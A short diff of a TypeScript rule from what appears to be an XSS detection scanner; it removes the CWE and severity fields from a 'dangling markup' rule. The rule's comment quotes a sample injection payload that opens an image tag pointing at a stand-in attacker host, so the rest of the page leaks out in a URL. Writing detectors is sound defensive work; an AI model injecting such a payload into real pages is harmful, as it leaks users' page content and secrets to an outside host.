@@ -10,8 +10,6 @@ import type { Match, ValueRule } from '../rule.ts';
 /** `"><img src='//evil.test/?`: what follows on the page becomes part of a URL, or of a form. */
 export const danglingMarkup: ValueRule = {
   id: 'xss.dangling-markup',
-  cwe: 'CWE-79',
-  severity: 'high',
   score: confidence.strong,
   message: 'leaves a tag, attribute or element open, so that it swallows the page that follows',
   trigger: { classes: charClass.less },
